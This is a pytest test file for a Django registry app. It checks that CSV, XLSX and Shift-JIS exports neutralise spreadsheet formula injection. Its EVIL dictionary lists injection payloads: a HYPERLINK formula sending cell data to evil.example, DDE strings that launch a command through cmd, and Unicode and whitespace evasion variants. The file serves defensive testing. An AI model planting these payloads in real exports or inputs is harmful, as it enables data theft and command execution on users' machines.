"""Attack 21: no cell of an export is a formula to the spreadsheet that opens it."""

import csv
import io

import openpyxl
import pytest
from django.conf import settings
from django.contrib import admin
from django.urls import reverse
from hypothesis import given
from hypothesis import strategies as st

from contacts import services
from contacts.audit import Act, Target, record_audit
from contacts.cells import guarded, unguarded
from contacts.models import Area, DesignatedContact, ExportKind, Organization, Role, User
from contacts.registry_files.exporting import KINDS, make_export, table_for
from routing.models import CodeOwner, Package, Product
from tests import factories

EVIL = {
    "equals": '=HYPERLINK("https://evil.example/?"&A1,"open")',
    "command": "=cmd|' /C calc'!A0",
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "full-width equals": "＝1+1",
    "full-width plus": "＋1+1",
    "full-width minus": "－1+1",
    "full-width at": "＠SUM(1)",
    "tab": "\t=1+1",
    "carriage return": "\r=1+1",
    "line feed": "\n=1+1",
    "blank": " =1+1",
    "ideographic blank": "\u3000=1+1",
    "byte order mark": "\ufeff=1+1",
    "own apostrophe": "'=1+1",
    "control": "\x01=1+1",
}
APPS = ("cases", "contacts", "helpdesk", "routing")
FORMULA_STARTS = tuple("=+-@＝＋－＠\t\r\n")


@pytest.fixture
def routing_client(client, db):
    user = factories.make_user("router", is_staff=True)
    factories.give_role(user, Role.ROUTING_ADMIN)
    client.force_login(user)
    return client


def cells_of(client, kind, register="package"):
    address = reverse(f"admin:routing_{register}_export")
    content = client.post(address, {"format": kind, "resource": "0"}).content
    return sheet_of(content, is_csv=kind == "0")


def sheet_of(content, *, is_csv):
    if is_csv:
        return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    assert "f" not in {cell.data_type for row in sheet.iter_rows() for cell in row}
    return [[cell or "" for cell in row] for row in sheet.iter_rows(values_only=True)]


@pytest.mark.parametrize("kind", ["0", "1"])
@pytest.mark.parametrize("text", EVIL.values(), ids=EVIL)
def test_export_holds_no_formula(routing_client, text, kind):
    Package.objects.create(name=text[:120], nicknames=text, vendor=text, vendor_phone=text[:40])

    rows = cells_of(routing_client, kind)

    assert len(rows) == 2
    assert not [cell for row in rows for cell in row if cell.startswith(FORMULA_STARTS)]
    assert rows[1][0].startswith("'")


@pytest.mark.parametrize("kind", ["0", "1"])
def test_export_of_the_other_registers_holds_no_formula(routing_client, kind):
    for text in EVIL.values():
        Product.objects.create(name_ja=text, name_en=text)
        CodeOwner.objects.create(name=text, prefixes=text, nicknames=text, team=text)

    for register in ("product", "codeowner"):
        rows = cells_of(routing_client, kind, register)
        assert len(rows) == len(EVIL) + 1
        assert not [cell for row in rows for cell in row if str(cell).startswith(FORMULA_STARTS)]


def test_every_export_of_the_administration_is_tested_here(db):
    names = [
        f"{model._meta.app_label}_{model._meta.model_name}"
        for model, page in admin.site._registry.items()
        if any(str(url.name).endswith("_export") for url in page.get_urls())
    ]

    assert sorted(names) == ["routing_codeowner", "routing_package", "routing_product"]


def test_tables_are_written_in_these_places_alone():
    """Whoever writes a table elsewhere guards its cells, and tests that here."""
    marks = ("csv.writer(", "openpyxl.Workbook(", "text/csv", "spreadsheetml", "tablib.Dataset(")
    root = settings.BASE_DIR
    files = [path for app in APPS for path in sorted((root / app).rglob("*.py"))]
    found = {
        path.relative_to(root).as_posix()
        for path in files
        if any(mark in path.read_text() for mark in marks)
    }

    assert found == {
        "contacts/registry_files/exporting.py",
        "contacts/spreadsheets.py",
        "contacts/views/audit.py",
        "routing/spreadsheets.py",
    }


@pytest.fixture
def reader(db):
    """Sees a registry in which everything is called what a formula is."""
    user = factories.make_user("admin")
    factories.give_role(user, Role.SYSTEM_ADMIN)
    for number, text in enumerate(EVIL.values()):
        person = factories.make_user(f"p{number}")
        User.objects.filter(pk=person.pk).update(name=text)
        factories.make_contact(person, factories.make_organization(text), trailblazer_email=text)
    return user


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_list_of_the_registry_holds_no_formula(reader, kind):
    content = KINDS[kind].write(table_for(reader))

    rows = sheet_of(content, is_csv=kind == "csv")
    assert len(rows) == len(EVIL) + 1
    assert not [cell for row in rows for cell in row if str(cell).startswith(FORMULA_STARTS)]


def test_list_in_shift_jis_holds_no_formula(reader):
    User.objects.filter(name=EVIL["byte order mark"]).update(name="p")
    Organization.objects.filter(name=EVIL["byte order mark"]).update(name="o")
    DesignatedContact.objects.filter(trailblazer_email=EVIL["byte order mark"]).delete()

    text = KINDS["sjis"].write(table_for(reader)).decode("cp932")

    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert len(rows) == len(EVIL)
    assert not [cell for row in rows for cell in row if cell.startswith(FORMULA_STARTS)]


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_list_that_the_worker_makes_holds_no_formula(reader, kind):
    export = services.ask_export(None, by=reader, kind=ExportKind(kind))
    make_export(export.pk)
    export.refresh_from_db()

    with export.file.open("rb") as file:
        rows = sheet_of(file.read(), is_csv=kind == "csv")

    assert len(rows) == len(EVIL) + 1
    assert not [cell for row in rows for cell in row if str(cell).startswith(FORMULA_STARTS)]


def test_audit_entries_as_a_file_hold_no_formula(client, db):
    auditor = factories.make_user("auditor")
    factories.give_role(auditor, Role.AUDITOR)
    for number, text in enumerate(EVIL.values()):
        actor = factories.make_user(f"p{number}")
        User.objects.filter(pk=actor.pk).update(name=text)
        target = Target(text, text, text)
        record_audit(Act(text[:30], Area.RULES, text), by=actor, on=target, detail=text)
    client.force_login(auditor)

    content = client.get(reverse("contacts:audit_export"), {"object": "="}).getvalue()
    whole = client.get(reverse("contacts:audit_export")).getvalue()

    assert content.startswith(b"\xef\xbb\xbf")
    rows = sheet_of(whole, is_csv=True)
    assert len(rows) > len(EVIL) + 1
    assert not [cell for row in rows for cell in row if cell.startswith(FORMULA_STARTS)]


@pytest.mark.parametrize("number", [0, -5, 12.5, -0.1, None])
def test_number_stays_a_number(number):
    assert guarded(number) is number


@pytest.mark.parametrize("text", ["", "0123", "3-5", "a=b", "'quoted'", "O'Neill", "レポート"])
def test_harmless_text_stays_as_it_is(text):
    assert guarded(text) == text


@given(st.text(st.sampled_from([*FORMULA_STARTS, *"' ab\u3000\ufeff"]), max_size=6))
def test_guarded_text_is_no_formula_and_comes_back(text):
    assert not guarded(text).startswith(FORMULA_STARTS)
    assert unguarded(guarded(text)) == text
